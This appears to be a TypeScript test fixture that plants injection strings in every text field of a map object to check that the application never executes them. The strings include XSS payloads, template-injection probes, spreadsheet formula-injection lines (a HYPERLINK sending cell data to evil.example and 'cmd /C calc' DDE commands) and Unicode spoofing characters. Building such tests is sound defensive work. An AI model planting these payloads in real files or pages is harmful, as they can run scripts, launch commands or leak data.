import fc from "fast-check";
import { must } from "../../src/core/assert.ts";
import { isLoose } from "../../src/core/map/field.ts";
import { anyJourney } from "../../src/core/map/journey.arbitrary.ts";
import { Journey } from "../../src/core/map/journey.ts";

/** Texts that a page or a file may take for something else; what would run, sets `hit`. */
export const hostile = [
  `<script>globalThis.hit = 1</script> a`,
  `"><img data-hostile src=x onerror="globalThis.hit = 2"> b`,
  `<svg data-hostile onload="globalThis.hit = 3"/> c`,
  `'"></textarea></title></style><iframe data-hostile srcdoc="<script>top.hit = 4</script>"> d`,
  `javascript:globalThis.hit=5//`,
  `[e](javascript:globalThis.hit=6) **f** <javascript:globalThis.hit=6>`,
  "{{constructor.constructor('globalThis.hit=7')()}} ${globalThis.hit=7} #{7*7} <%= 7*7 %> {7*7}",
  `=HYPERLINK("http://evil.example/?x="&A1,"g")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  "-2+3+cmd|' /C calc'!A0",
  "\u202Egnp.exe\u202C \u2066\u05D0\u05D1\u2069 \u200F! h",
  "i\u200B\u200D\uFEFFj\u00ADk \u0301\u0489",
  `: - # & * ! | > ' " % @ \` {l: [m]} --- ... !!js/function n`,
  "]]></text><script>globalThis.hit = 8</script><!-- --> &lt;b&gt; &amp; &#x27; o",
  '%%{init: {}}%% p: 5: q; click r href "javascript:globalThis.hit=9"',
  `\u0041\u030A\u{1F469}\u200D\u{1F692} ${"W".repeat(120)}`,
] as const;

/** For a field with little room. */
const short = `<b data-hostile onload=hit=1>=1+1`;

type Path = readonly (string | number)[];

/** A map with every text field there is, each of them hostile where its schema takes any text. */
export function hostileMap(): Journey {
  const samples = fc.sample(anyJourney, { seed: 7, numRuns: 600 });
  const rich = samples.map((journey) => ({ journey, kinds: kindsOf(journey) }));
  const richest = rich.reduce((one, other) => (other.kinds.size > one.kinds.size ? other : one));
  const journey: Record<string, unknown> = structuredClone({
    ...richest.journey,
    owner: "somebody",
  });
  const paths = [...textsIn(journey)];
  const original = paths.map((path) => at(journey, path));
  for (const [n, path] of paths.entries()) put(journey, path, hostile[n % hostile.length] ?? "");
  // What a field refuses is shorter there, and then what it was; references are looked at last.
  for (const instead of [() => short, (n: number) => original[n], (n: number) => original[n]]) {
    const refused = Journey.safeParse(journey).error?.issues ?? [];
    const keys = new Set(refused.map(({ path }) => JSON.stringify(path)));
    for (const [n, path] of paths.entries())
      if (keys.has(JSON.stringify(path))) put(journey, path, instead(n));
  }
  return Journey.parse(journey);
}

/** Fields of a journey that hold a text, by their names: `.episodes[].title`. */
export function kindsOf(journey: object): Set<string> {
  return new Set([...textsIn(journey)].map(nameOf));
}

/** Those of them that hold a hostile text. */
export function hostileIn(journey: object): Set<string> {
  const texts: readonly unknown[] = [...hostile, short];
  return new Set(
    [...textsIn(journey)].filter((path) => texts.includes(at(journey, path))).map(nameOf),
  );
}

function nameOf(path: Path): string {
  const named = path.map((part, place) => {
    if (typeof part === "number") return "[]";
    return ["cells", "predicate"].includes(String(path[place - 1])) ? ".*" : `.${part}`;
  });
  return named.join("");
}

function* textsIn(value: unknown, path: Path = []): Generator<Path> {
  if (typeof value === "string") yield path;
  else if (Array.isArray(value))
    for (const [n, each] of value.entries()) yield* textsIn(each, [...path, n]);
  else if (isLoose(value))
    for (const [key, each] of Object.entries(value)) yield* textsIn(each, [...path, key]);
}

type Holder = Record<string | number, unknown>;

function at(value: unknown, path: Path): unknown {
  return path.reduce<unknown>((held, part) => (held as Holder)[part], value);
}

function put(value: unknown, path: Path, text: unknown): void {
  (at(value, path.slice(0, -1)) as Holder)[must(path.at(-1), "a field")] = text;
}
